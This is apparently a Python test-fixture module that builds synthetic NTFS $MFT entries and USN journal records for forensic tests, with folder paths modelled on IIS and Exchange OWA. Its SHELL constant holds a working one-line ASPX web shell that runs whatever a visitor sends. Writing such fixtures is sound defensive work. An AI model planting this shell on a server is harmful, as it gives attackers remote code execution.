"""Builds tables of files ($MFT) and journals of changes ($J) as NTFS writes them, for tests."""

import struct
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime

ROOT = 5
SYSTEM = dict(
    enumerate(
        ("$MFT", "$MFTMirr", "$LogFile", "$Volume", "$AttrDef", ".")
        + ("$Bitmap", "$Boot", "$BadClus", "$Secure", "$UpCase", "$Extend")
    )
)
LONG_AGO = datetime(2016, 7, 16, 13, 23, 21, tzinfo=UTC)
THEN = datetime(2021, 3, 3, 5, 1, 2, 123456, tzinfo=UTC)
CLIENT = ("inetpub", "wwwroot", "aspnet_client")
OWA = (
    *("Program Files", "Microsoft", "Exchange Server", "V15"),
    *("FrontEnd", "HttpProxy", "owa", "auth"),
)
SHELL = b'<%@ Page Language="Jscript"%><%ev' + b'al(Request.Item["x"],"unsafe");%>'
"""A page that executes what a visitor sends."""


def ticks(moment: datetime) -> int:
    """Return a time as Windows writes it."""
    since = moment - datetime(1601, 1, 1, tzinfo=UTC)
    return (since.days * 86400 + since.seconds) * 10_000_000 + since.microseconds * 10


def reference(number: int, count: int) -> int:
    return count << 48 | number


def attribute(kind: int, content: bytes, name: str = "") -> bytes:
    named = name.encode("utf-16-le")
    start = (24 + len(named) + 7) // 8 * 8
    length = (start + len(content) + 7) // 8 * 8
    head = struct.pack(
        "<IIBBHHHIHBB", kind, length, 0, len(name), 24, 0, 0, len(content), start, 0, 0
    )
    return ((head + named).ljust(start, b"\0") + content).ljust(length, b"\0")


def outside(size: int) -> bytes:
    """Make the content of a file that lies elsewhere on the disk."""
    head = struct.pack(
        "<IIBBHHHQQHHIQQQ", 0x80, 72, 1, 0, 64, 0, 0, 0, 0, 64, 0, 0, size, size, size
    )
    return head.ljust(72, b"\0")


def file_name(parent: int, name: str, named: datetime, space: int = 1) -> bytes:
    times = struct.pack("<4Q", *[ticks(named)] * 4)
    head = struct.pack("<Q", parent) + times + struct.pack("<QQII", 0, 0, 0, 0)
    return attribute(0x30, head + bytes((len(name), space)) + name.encode("utf-16-le"))


def standard(said: datetime) -> bytes:
    return attribute(0x10, struct.pack("<4QIIIIIIQQ", *[ticks(said)] * 4, *[0] * 8))


def entry(
    number: int,
    attributes: bytes,
    *,
    count: int = 1,
    flags: int = 1,
    base: int = 0,
    size: int = 1024,
) -> bytes:
    """Make an entry as it lies on the disk, its sectors marked."""
    sectors = size // 512
    start = (0x30 + 2 * sectors + 2 + 7) // 8 * 8
    used = start + len(attributes) + 8
    head = struct.pack(
        "<4sHHQHHHHIIQHHI",
        b"FILE",
        0x30,
        sectors + 1,
        0,
        count,
        1,
        start,
        flags,
        used,
        size,
        base,
        0,
        0,
        number,
    )
    whole = bytearray(
        (head.ljust(start, b"\0") + attributes + b"\xff\xff\xff\xff").ljust(size, b"\0")
    )
    assert len(whole) == size
    mark = b"\x07\x00"
    whole[0x30:0x32] = mark
    for sector in range(1, sectors + 1):
        last = sector * 512 - 2
        whole[0x30 + 2 * sector : 0x32 + 2 * sector] = whole[last : last + 2]
        whole[last : last + 2] = mark
    return bytes(whole)


@dataclass
class Volume:
    """The table of files of one volume, grown file by file."""

    size: int = 1024
    entries: dict[int, bytes] = field(default_factory=dict)
    folders: dict[tuple[str, ...], int] = field(default_factory=lambda: {(): reference(ROOT, ROOT)})

    def __post_init__(self) -> None:
        """Begin as every volume does."""
        for number, name in SYSTEM.items():
            self.put(number, name, reference(ROOT, ROOT), count=ROOT if number == ROOT else 1)

    def free(self) -> int:
        return max((*self.entries, 15)) + 1

    def put(
        self,
        number: int,
        name: str,
        parent: int,
        *,
        content: bytes = b"",
        count: int = 1,
        flags: int = 1,
        said: datetime = THEN,
        named: datetime = THEN,
        more: bytes = b"",
    ) -> int:
        """Put an entry anywhere; return its reference."""
        attributes = standard(said) + file_name(parent, name, named) + more
        attributes += attribute(0x80, content) if not flags & 2 else b""
        self.entries[number] = entry(number, attributes, count=count, flags=flags, size=self.size)
        return reference(number, count)

    def folder(self, *path: str) -> int:
        """Return the reference of a folder, made with all above it where it lacks."""
        if path not in self.folders:
            above = self.folder(*path[:-1])
            self.folders[path] = self.put(self.free(), path[-1], above, flags=3)
        return self.folders[path]

    def file(
        self,
        folder: tuple[str, ...],
        name: str,
        content: bytes = b"",
        *,
        deleted: bool = False,
        said: datetime = THEN,
        named: datetime = THEN,
    ) -> int:
        """Add a file; a deleted one as deleting leaves it."""
        count, flags = (2, 0) if deleted else (1, 1)
        parent = self.folder(*folder)
        number = self.free()
        self.put(
            number, name, parent, content=content, count=count, flags=flags, said=said, named=named
        )
        return reference(number, 1)

    def table(self) -> bytes:
        """Return the table; places without an entry are empty."""
        empty = bytes(self.size)
        return b"".join(self.entries.get(at, empty) for at in range(self.free()))


CREATE, WRITE, DELETE, OLD, NEW, CLOSE = 0x100, 0x2, 0x200, 0x1000, 0x2000, 0x80000000


def change(
    name: str,
    parent: int,
    reason: int,
    *,
    file: int = reference(900, 1),
    usn: int = 0,
    time: datetime = THEN,
    attributes: int = 0x20,
    version: int = 2,
) -> bytes:
    """Make a record of the journal."""
    named = name.encode("utf-16-le")
    place = 60 if version == 2 else 76
    length = (place + len(named) + 7) // 8 * 8
    ids = struct.pack("<QQ" if version == 2 else "<QxxxxxxxxQxxxxxxxx", file, parent)
    head = struct.pack("<IHH", length, version, 0) + ids
    head += struct.pack("<qQIIIIHH", usn, ticks(time), reason, 0, 0, attributes, len(named), place)
    return (head + named).ljust(length, b"\0")


def ranges(file: int = 1, count: int = 1) -> bytes:
    """Make a record of version 4, which names no file."""
    head = struct.pack(
        "<IHHQQQQqIIIHH", 64 + 16 * count, 4, 0, file, 0, 5, 0, 0, 2, 0, 0, count, 16
    )
    return head + struct.pack("<qq", 0, 4096) * count


def journal(records: list[bytes], hole: int = 0) -> bytes:
    """Lay records into pages behind a hole; none crosses the end of a page."""
    pages, page = [bytes(hole)], b""
    for record in records:
        if len(page) + len(record) > 4096:
            pages.append(page.ljust(4096, b"\0"))
            page = b""
        page += record
    pages.append(page.ljust(4096, b"\0"))
    return b"".join(pages)


def flat(fields: Mapping[str, str | tuple[str, ...]], *names: str) -> tuple[str, ...]:
    """Return some fields of a record as texts."""
    return tuple(str(fields[name]) for name in names)
